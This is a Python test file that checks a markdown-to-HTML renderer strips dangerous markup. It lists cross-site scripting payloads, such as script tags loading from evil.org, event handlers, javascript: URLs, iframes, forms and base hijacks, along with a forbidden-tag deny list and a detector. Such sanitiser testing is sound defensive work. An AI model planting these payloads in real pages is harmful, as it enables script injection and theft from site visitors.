"""Markdown bodies are rendered as HTML without anything harmful."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsgraph.store.documents.markdown import markdown_to_html

HARMLESS = {
    "": "",
    "*a* and **b**": "<p><em>a</em> and <strong>b</strong></p>\n",
    "~~gone~~": "<p><s>gone</s></p>\n",
    "# A\n\n- b\n- c": "<h1>A</h1>\n<ul>\n<li>b</li>\n<li>c</li>\n</ul>\n",
    "a & b < c": "<p>a &amp; b &lt; c</p>\n",
    "<b>raw</b>": "<p><b>raw</b></p>\n",
    "<https://a.org>": '<p><a href="https://a.org" rel="noopener noreferrer">https://a.org</a></p>\n',
    "![a](b.png)": '<p><img src="b.png" alt="a"></p>\n',
    "`<script>`": "<p><code>&lt;script&gt;</code></p>\n",
}
HARMFUL = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.org/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<iframe src=//evil.org></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.org><input name=x><button>x</button></form>",
    '<p style="position:fixed">x</p>',
    "<style>body{display:none}</style>",
    '<link rel=stylesheet href=//evil.org/x.css><meta http-equiv=refresh content="0;url=//evil">',
    "<base href=//evil.org>",
    "<!-- comment --><![CDATA[<script>alert(1)</script>]]><?php x ?>",
]
FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "link",
    "meta",
    "base",
    "svg",
    "body",
}


class HarmfulMarkupParser(HTMLParser):
    """Collects harmful elements, attributes, URLs and comments of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.matches: list[str] = []

    def handle_starttag(self, tag, attrs):
        """Check an element and its attributes."""
        if tag in FORBIDDEN_TAGS:
            self.matches.append(tag)
        for name, value in attrs:
            url = "".join((value or "").split()).lower()
            scheme = url.partition(":")[0] + ":"
            if name.startswith("on") or name == "style":
                self.matches.append(name)
            if name in ("href", "src") and scheme in ("javascript:", "data:", "vbscript:"):
                self.matches.append(url)

    def handle_comment(self, data):
        """Collect all comments, as they can hide markup from a parser."""
        self.matches.append(data)


def find_harmful_markup(html):
    """Return the harmful elements, attributes, URLs and comments of HTML."""
    parser = HarmfulMarkupParser()
    parser.feed(html)
    parser.close()
    return parser.matches


@pytest.mark.parametrize(("body", "html"), HARMLESS.items())
def test_harmless_markup_is_rendered(body, html):
    """Markdown is rendered as HTML, and harmless HTML is preserved."""
    assert markdown_to_html(body) == html


def test_tables():
    """Tables are rendered."""
    assert "<td>1</td>" in markdown_to_html("| a |\n| - |\n| 1 |")


@pytest.mark.parametrize("body", HARMFUL)
@pytest.mark.parametrize("context", ["{}", "text {} text", "> {}", "- {}", "| a |\n|-|\n| {} |"])
def test_harmful_markup_is_removed(body, context):
    """Scripts, event handlers, frames, forms and script URLs are removed in any context."""
    assert find_harmful_markup(markdown_to_html(context.format(body))) == []


def test_harmful_markup_is_detected():
    """The parser of these tests detects harmful markup."""
    for body in ("<script>", "<b onclick=x>", "<a href=' java\nscript:x'>", "<!-- a -->"):
        assert find_harmful_markup(body)


@given(
    st.lists(st.sampled_from((*HARMFUL, *HARMLESS, "<", ">", '"', "\n\n", "`", "[")) | st.text())
)
def test_any_body(parts):
    """No combination of texts raises or gives harmful HTML."""
    assert find_harmful_markup(markdown_to_html("".join(parts))) == []
